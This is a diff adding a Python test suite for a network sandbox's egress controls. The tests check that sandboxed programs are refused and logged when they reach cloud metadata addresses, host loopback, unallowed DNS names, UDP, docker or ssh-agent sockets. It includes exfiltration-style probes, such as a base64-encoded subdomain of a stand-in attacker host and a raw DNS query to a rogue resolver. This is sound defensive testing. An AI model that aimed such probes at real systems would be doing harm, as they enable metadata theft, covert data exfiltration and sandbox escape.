@@ -1,0 +1,266 @@
+"""Ways out: other hosts, the host's loopback, metadata addresses, names, unix sockets. Nothing is ever
+sent anywhere but to servers on this machine's loopback."""
+
+import json
+import os
+import socket
+import sys
+import threading
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
+from harness import test  # noqa: E402
+from local_server import LocalServer  # noqa: E402
+
+PYTHON = "/usr/bin/python3"
+
+# Ports 80 and 443 are open for one name, so that the broker listens on them.
+ONE_HOST = ["--allow-host", "registry.example.com"]
+
+CONNECT = """
+import socket, sys
+try:
+    socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).close()
+except OSError as error:
+    sys.exit(f"blocked: {error!r}")
+print("connected")
+"""
+
+SEND_UDP = """
+import socket, sys
+family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
+s = socket.socket(family, socket.SOCK_DGRAM)
+s.connect((sys.argv[1], int(sys.argv[2])))
+s.send(b"out")
+s.settimeout(3)
+try:
+    print("answer", s.recv(100))
+except OSError as error:
+    sys.exit(f"blocked: {error!r}")
+"""
+
+
+def connect(t, address, port, options=ONE_HOST):
+    return t.sandbox(PYTHON, "-c", CONNECT, address, port, options=options)
+
+
+def control(t, program=CONNECT):
+    """The program reaches a server on loopback without the sandbox."""
+    server = LocalServer({})
+    t.succeeded(t.bare(PYTHON, "-c", program, "127.0.0.1", server.port), "control")
+    return server
+
+
+def refused(t, result):
+    t.true(result.code != 0, result)
+    t.contains(result.err, "blocked: ")
+
+
+def logged(t, result, event_type, text):
+    found = [e for e in result.of_type(event_type) if text in json.dumps(e["details"])]
+    t.true(found, f"{event_type} with {text} in the log: {result.events}")
+    return found[0]
+
+
+@test
+def metadata_addresses(t):
+    """cloud metadata addresses are refused, and the try is in the log"""
+    control(t)
+    for address in ("169.254.169.254", "169.254.170.2", "fd00:ec2::254", "100.100.100.200"):
+        result = connect(t, address, 80)
+        if result.code == 0:  # accepted only to be closed: no byte comes or goes
+            t.contains(result.out, "connected")
+        event = logged(t, result, "flow.denied", address)
+        t.equal(event["details"]["port"], 80)
+
+
+FETCH = """
+import sys, urllib.request
+try:
+    print("got", urllib.request.urlopen(sys.argv[1], timeout=5).read())
+except Exception as error:
+    sys.exit(f"blocked: {error!r}")
+"""
+
+
+@test
+def fetch_from_an_address(t):
+    """a fetch from an address that no rule names gets nothing"""
+    server = LocalServer({"/": b"data"})
+    t.contains(t.bare(PYTHON, "-c", FETCH, server.url("127.0.0.1")).out, "data", "control")
+    for address in ("203.0.113.7", "169.254.169.254", "[2001:db8::7]", "198.18.0.1", "10.0.2.2"):
+        result = t.sandbox(PYTHON, "-c", FETCH, f"http://{address}/", options=ONE_HOST)
+        refused(t, result)
+        logged(t, result, "flow.denied", address.strip("[]"))
+
+
+@test
+def host_loopback(t):
+    """services on the host's loopback are not reached, by any spelling of it"""
+    server = control(t)
+    v6 = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
+    t.succeeded(t.bare(PYTHON, "-c", CONNECT, "::1", v6.getsockname()[1]), "control")
+    for port in (server.port, v6.getsockname()[1]):
+        for address in ("127.0.0.1", "localhost", "::1", "::ffff:127.0.0.1", "0.0.0.0", "127.1.2.3"):
+            result = connect(t, address, port)
+            refused(t, result)
+    t.equal(server.requests, [])
+
+
+@test
+def host_by_its_own_address(t):
+    """services of the host are not reached by its address in the network"""
+    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        probe.connect(("203.0.113.1", 9))  # sends nothing: asks the routing table
+        address = probe.getsockname()[0]
+    except OSError:
+        address = "127.0.0.1"
+    listener = socket.create_server(("0.0.0.0", 0))
+    port = listener.getsockname()[1]
+    t.succeeded(t.bare(PYTHON, "-c", CONNECT, address, port), "control")
+    refused(t, connect(t, address, port))
+
+
+@test
+def other_ports_of_an_allowed_host(t):
+    """an allowed host is reached on its ports alone"""
+    server = LocalServer({"/": b"data"})
+    other = LocalServer({"/": b"data"})
+    rule = ["--allow-host", f"localhost:{server.port}"]
+    t.contains(t.sandbox(PYTHON, "-c", FETCH, server.url(), options=rule).out, "data", "control")
+    refused(t, t.sandbox(PYTHON, "-c", FETCH, other.url(), options=rule))
+    t.equal(other.requests, [])
+
+
+@test
+def names(t):
+    """a name that no rule allows does not resolve, and the try is in the log"""
+    name = "c2VjcmV0.attacker.example.com"
+    look = "import socket, sys; print('address', socket.gethostbyname(sys.argv[1]))"
+    permitted = t.sandbox(PYTHON, "-c", look, name, options=["--allow-host", name])
+    t.contains(t.succeeded(permitted, "with a rule").out, "address 198.1", "control")
+    result = t.sandbox(PYTHON, "-c", look, name, options=ONE_HOST)
+    t.true(result.code != 0, result)
+    t.contains(result.err, "gaierror")
+    event = logged(t, result, "name.lookup", name)
+    t.equal(event["details"]["verdict"], "denied")
+    t.contains(result.err, name, "the summary names it")
+    # With no rule at all there is no network, and no name either.
+    result = t.sandbox(PYTHON, "-c", look, name)
+    t.true(result.code != 0, result)
+    t.contains(result.err, "gaierror")
+
+
+def dns_server():
+    """Answers each query on UDP with 192.0.2.1, and remembers it."""
+    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server.bind(("127.0.0.1", 0))
+    seen = []
+
+    def serve():
+        while True:
+            query, peer = server.recvfrom(4096)
+            seen.append(query)
+            answer = query[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + query[12:]
+            answer += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc0\x00\x02\x01"
+            server.sendto(answer, peer)
+
+    threading.Thread(target=serve, daemon=True).start()
+    return server.getsockname()[1], seen
+
+
+@test
+def own_resolver(t):
+    """a query sent straight to another resolver, over UDP, reaches nobody"""
+    port, seen = dns_server()
+    program = """
+import socket, sys
+query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+try:
+    s.connect((sys.argv[1], int(sys.argv[2])))
+    s.send(query)
+    print("answer", s.recv(512)[-4:])
+except OSError as error:
+    sys.exit(f"blocked: {error!r}")
+"""
+    answer = t.bare(PYTHON, "-c", program, "127.0.0.1", port)
+    t.contains(t.succeeded(answer, "control").out, "answer b'\\xc0\\x00\\x02\\x01'")
+    del seen[:]
+    refused(t, t.sandbox(PYTHON, "-c", program, "127.0.0.1", port, options=ONE_HOST))
+    # Port 53 of any address is the broker: it answers itself, with "no such name".
+    result = t.sandbox(PYTHON, "-c", program, "192.0.2.53", 53, options=ONE_HOST)
+    t.lacks(result.out, "answer b'\\xc0\\x00\\x02\\x01'")
+    logged(t, result, "name.lookup", "secret.example.com")
+    t.equal(seen, [])
+
+
+@test
+def udp(t):
+    """UDP goes nowhere"""
+    port, seen = dns_server()
+    t.contains(t.bare(PYTHON, "-c", SEND_UDP, "127.0.0.1", port).out, "answer", "control")
+    del seen[:]
+    for address, where in (("127.0.0.1", port), ("203.0.113.7", 443), ("2001:db8::7", 443)):
+        refused(t, t.sandbox(PYTHON, "-c", SEND_UDP, address, where, options=ONE_HOST))
+    t.equal(seen, [])
+
+
+@test
+def interfaces(t):
+    """there is no interface but loopback"""
+    t.equal(t.succeeded(t.sandbox("sh", "-c", "ls /sys/class/net 2>/dev/null || cut -d: -f1 -s /proc/net/dev | tr -d ' '")).out.split(), ["lo"])
+
+
+UNIX = """
+import socket, sys
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect(sys.argv[1].replace("@", "\\0"))
+except OSError as error:
+    sys.exit(f"blocked: {error!r}")
+print("connected")
+"""
+
+
+def unix_socket(t, path, reason):
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(path.replace("@", "\0"))
+    server.listen()
+    t.succeeded(t.bare(PYTHON, "-c", UNIX, path), "control")
+    result = t.sandbox(PYTHON, "-c", UNIX, path, options=ONE_HOST)
+    refused(t, result)
+    t.true(any(word in result.err for word in reason), f"the reason: {result.err}")
+
+
+@test
+def docker_and_agent_sockets(t):
+    """unix sockets of the host (docker, ssh-agent) are not there"""
+    (t.home / ".docker/run").mkdir(parents=True)
+    gone = ["FileNotFoundError"]
+    unix_socket(t, str(t.home / ".docker/run/docker.sock"), gone)
+    unix_socket(t, str(t.home / ".ssh/agent.sock"), gone)
+    unix_socket(t, str(t.base / "agent.sock"), gone)
+    result = t.sandbox("sh", "-c", "ls /run/docker.sock /var/run/docker.sock /run/user/* /run/systemd /run/dbus")
+    t.equal(result.out, "")
+
+
+@test
+def abstract_unix_socket(t):
+    """abstract unix sockets of the host are not reached"""
+    unix_socket(t, f"@srt-{os.getpid()}", ["ConnectionRefusedError"])
+
+
+@test
+def unix_socket_in_the_project(t):
+    """a unix socket in the project (of a dev server) does not answer"""
+    unix_socket(t, str(t.project / "dev.sock"), ["ConnectionRefused", "PermissionError", "FileNotFound"])
+
+
+@test
+def proxy_variables(t):
+    """the host's proxy variables do not enter, and leaving them out changes nothing"""
+    environment = {"HTTPS_PROXY": "http://127.0.0.1:9", "ALL_PROXY": "socks5h://127.0.0.1:9"}
+    t.contains(t.bare("env", env=environment).out, "HTTPS_PROXY", "control")
+    t.lacks(t.succeeded(t.sandbox("env", env=environment)).out, "_PROXY")
